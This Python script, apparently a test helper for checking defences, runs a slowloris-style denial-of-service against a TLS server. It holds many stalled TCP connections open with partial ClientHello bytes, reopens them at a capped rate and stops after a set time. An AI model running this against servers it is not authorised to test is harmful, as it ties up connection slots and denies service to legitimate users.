#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""ipt6-slowloris: hold N TCP connections open to a TLS server from one
address, as a slowloris attacker does.  Every second connection sends the
first bytes of a ClientHello (a record header announcing 512 bytes, the
handshake header, the version) and nothing more; the others send nothing
at all.  A connection the server closes is opened again a second later,
at most --reopen-rate a second in all, as slowloris tools do: the point
is to hold connections, not to flood the server with new ones (what a
flood costs is bounded by the CPU, not by the server's design).  It stops
by itself after --hold seconds (or on SIGTERM) and prints what happened.

  ipt6-slowloris --connect ADDR:PORT [--bind ADDR] [-n N] [--hold S]
                 [--reopen-rate R] [--no-reopen] [--all-hello]

Prints "holding N connections" once all N are established, then at the
end "opened N, closed by the server N".
"""
import argparse
import selectors
import signal
import socket
import sys
import time

# TLS record (handshake, legacy version 3.1, 512 bytes), then the
# ClientHello header (type 1, length 508) and its version 3.3.
HELLO_START = bytes.fromhex("1603010200" "010001fc" "0303")
REOPEN_PAUSE = 1.0	# s: before a closed connection is opened again


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("--connect", required=True)
    p.add_argument("--bind", default=None)
    p.add_argument("-n", type=int, default=400)
    p.add_argument("--hold", type=float, default=30.0)
    p.add_argument("--reopen-rate", type=float, default=100.0)
    p.add_argument("--no-reopen", action="store_true")
    p.add_argument("--all-hello", action="store_true")
    a = p.parse_args()
    host, _, port = a.connect.rpartition(":")
    a.addr = (host.strip("[]"), int(port))
    return a


class Attacker:
    def __init__(self, a):
        self.a = a
        self.sel = selectors.DefaultSelector()
        self.opened = 0
        self.closed = 0
        self.failed = 0
        self.live = {}		# socket -> slot index
        self.due = []		# (time, slot) to reopen
        self.stop = False

    def open(self, slot):
        s = socket.socket(socket.AF_INET6 if ":" in self.a.addr[0]
                          else socket.AF_INET, socket.SOCK_STREAM)
        try:
            if self.a.bind:
                s.bind((self.a.bind, 0))
            s.settimeout(5)
            s.connect(self.a.addr)
            if self.a.all_hello or slot % 2 == 0:
                s.sendall(HELLO_START)
        except OSError:
            s.close()
            self.failed += 1
            self.due.append((time.monotonic() + REOPEN_PAUSE, slot))
            return
        s.setblocking(False)
        self.opened += 1
        self.live[s] = slot
        self.sel.register(s, selectors.EVENT_READ)

    def on_readable(self, s):
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if data:
            return		# an alert or the like: keep waiting for the close
        slot = self.live.pop(s)
        self.sel.unregister(s)
        s.close()
        self.closed += 1
        if not self.a.no_reopen:
            self.due.append((time.monotonic() + REOPEN_PAUSE, slot))

    def run(self):
        end = time.monotonic() + self.a.hold
        for i in range(self.a.n):
            self.open(i)
        print("holding %d connections" % len(self.live), flush=True)
        tokens, last = 0.0, time.monotonic()
        while not self.stop and time.monotonic() < end:
            for key, _ in self.sel.select(timeout=0.1):
                self.on_readable(key.fileobj)
            now = time.monotonic()
            # Token bucket: at most --reopen-rate reopens a second.
            tokens = min(tokens + (now - last) * self.a.reopen_rate,
                         self.a.reopen_rate)
            last = now
            self.due.sort()
            while self.due and self.due[0][0] <= now and tokens >= 1:
                tokens -= 1
                self.open(self.due.pop(0)[1])
        for s in self.live:
            s.close()
        print("opened %d, closed by the server %d, connect failures %d" %
              (self.opened, self.closed, self.failed), flush=True)


def main():
    a = parse_args()
    att = Attacker(a)

    def on_term(*_):
        att.stop = True
    signal.signal(signal.SIGTERM, on_term)
    att.run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
